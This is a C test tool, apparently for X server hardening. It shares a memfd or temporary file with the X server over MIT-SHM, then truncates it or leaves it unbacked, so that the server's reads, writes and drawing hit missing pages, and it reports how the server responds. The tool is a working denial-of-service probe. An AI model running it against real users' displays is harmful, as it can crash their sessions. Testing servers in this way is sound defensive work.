/* SPDX-License-Identifier: MIT */
/*
 * xshm-truncate [ATTACK [DIRECTORY]]: shares a memfd with the X server of $DISPLAY, takes its pages away,
 * and lets the server read (put) and write (get) it, until it complains. Prints the outcome of each
 * before and after: "ok" or the error's name. With an attack only this one, and only the outcome after:
 *   put, get     as above
 *   pixmap       the server draws in a pixmap in that memory
 *   full-put, full-get, full-pixmap   nothing is taken away: the file is a hole, and the file system of
 *                DIRECTORY has no page left
 *   good         nothing is taken away, and "alive" is printed
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include <xcb/shm.h>
#include <xcb/xcb.h>

#define WIDTH 128
#define HEIGHT 128
#define SIZE (WIDTH * HEIGHT * 4)

static xcb_connection_t *connection;
static xcb_screen_t *screen;
static xcb_pixmap_t pixmap;
static xcb_gcontext_t gc;

static _Noreturn void fail(const char *what)
{
	fprintf(stderr, "xshm-truncate: %s\n", what);
	exit(1);
}

static const char *outcome(const xcb_generic_error_t *error)
{
	const xcb_query_extension_reply_t *shm = xcb_get_extension_data(connection, &xcb_shm_id);

	if (xcb_connection_has_error(connection))
		return "connection closed";
	if (!error)
		return "ok";
	return error->error_code == shm->first_error + XCB_SHM_BAD_SEG ? "BadShmSeg" : "another error";
}

static xcb_shm_seg_t share(int fd)
{
	xcb_shm_seg_t segment = xcb_generate_id(connection);
	int server_fd = dup(fd); /* xcb closes it */

	if (server_fd < 0 || xcb_request_check(connection,
				     xcb_shm_attach_fd_checked(connection, segment, server_fd, 0)))
		fail("the server does not take the file");
	return segment;
}

static xcb_generic_error_t *put(xcb_shm_seg_t segment)
{
	xcb_void_cookie_t cookie =
		xcb_shm_put_image_checked(connection, pixmap, gc, WIDTH, HEIGHT, 0, 0, WIDTH,
			HEIGHT, 0, 0, screen->root_depth, XCB_IMAGE_FORMAT_Z_PIXMAP, 0, segment, 0);

	return xcb_request_check(connection, cookie);
}

static xcb_generic_error_t *get(xcb_shm_seg_t segment)
{
	xcb_generic_error_t *error = NULL;
	xcb_shm_get_image_cookie_t cookie = xcb_shm_get_image(connection, pixmap, 0, 0, WIDTH,
		HEIGHT, ~0u, XCB_IMAGE_FORMAT_Z_PIXMAP, segment, 0);

	free(xcb_shm_get_image_reply(connection, cookie, &error));
	return error;
}

typedef xcb_generic_error_t *request_function(xcb_shm_seg_t segment);

/* Drawn by the server alone; what it has lost is said of the next image that is put. */
static xcb_generic_error_t *draw(xcb_shm_seg_t segment)
{
	xcb_rectangle_t all = {0, 0, WIDTH, HEIGHT};
	xcb_pixmap_t shared = xcb_generate_id(connection);
	xcb_generic_error_t *error = xcb_request_check(connection,
		xcb_shm_create_pixmap_checked(connection, shared, screen->root, WIDTH, HEIGHT,
			screen->root_depth, segment, 0));

	if (error)
		return error;
	xcb_poly_fill_rectangle(connection, shared, gc, 1, &all);
	xcb_copy_area(connection, shared, pixmap, gc, 0, 0, 0, 0, WIDTH, HEIGHT);
	xcb_free_pixmap(connection, shared);
	return put(segment);
}

static const char *directory; /* NULL: a memfd */

static int new_file(void)
{
	char page[4096] = {0};
	int fd, filler;

	if (!directory)
		return memfd_create("xshm-truncate", MFD_CLOEXEC);
	fd = open(directory, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
	filler = open(directory, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600); /* lives as long as we */
	while (filler >= 0 && write(filler, page, sizeof(page)) > 0)
		;
	return fd;
}

static int share_file(xcb_shm_seg_t *segment)
{
	int fd = new_file();

	if (fd < 0 || ftruncate(fd, SIZE) < 0)
		fail("no memory to share");
	*segment = share(fd);
	return fd;
}

static void truncate_under(const char *name, request_function *request, int only_this)
{
	xcb_generic_error_t *error;
	xcb_shm_seg_t segment;
	int fd = share_file(&segment);

	if (!directory) {
		error = request(segment);
		if (!only_this)
			printf("%s: %s\n", name, outcome(error));
		free(error);
		if (ftruncate(fd, 0) < 0)
			fail("cannot truncate the file");
	}
	/* The server takes a lost segment back when it has nothing else to do: not at once. */
	while (!(error = request(segment)) && !xcb_connection_has_error(connection))
		usleep(10000);
	if (only_this)
		puts(outcome(error));
	else
		printf("%s: %s\n", name, outcome(error));
	free(error);
	close(fd);
}

static void be_good(void)
{
	xcb_shm_seg_t segment;
	int fd = share_file(&segment);

	if (put(segment) || get(segment))
		fail("a good segment does not work");
	puts("alive");
	close(fd);
}

int main(int argc, char **argv)
{
	const char *attack = argc > 1 ? argv[1] : "";
	const xcb_query_extension_reply_t *shm;

	connection = xcb_connect(NULL, NULL);
	if (xcb_connection_has_error(connection))
		fail("cannot connect");
	shm = xcb_get_extension_data(connection, &xcb_shm_id);
	if (!shm || !shm->present)
		fail("the server has no MIT-SHM");
	screen = xcb_setup_roots_iterator(xcb_get_setup(connection)).data;
	pixmap = xcb_generate_id(connection);
	xcb_create_pixmap(connection, screen->root_depth, pixmap, screen->root, WIDTH, HEIGHT);
	gc = xcb_generate_id(connection);
	xcb_create_gc(connection, gc, pixmap, 0, NULL);
	if (strcmp(attack, "good") == 0)
		be_good();
	if (strncmp(attack, "full-", 5) == 0) {
		directory = argc > 2 ? argv[2] : ".";
		attack += 5;
	}
	if (strcmp(attack, "pixmap") == 0)
		truncate_under("pixmap", draw, 1);
	if (!*attack || strcmp(attack, "put") == 0)
		truncate_under("put", put, *attack);
	if (!*attack || strcmp(attack, "get") == 0)
		truncate_under("get", get, *attack);
	xcb_disconnect(connection);
	return 0;
}
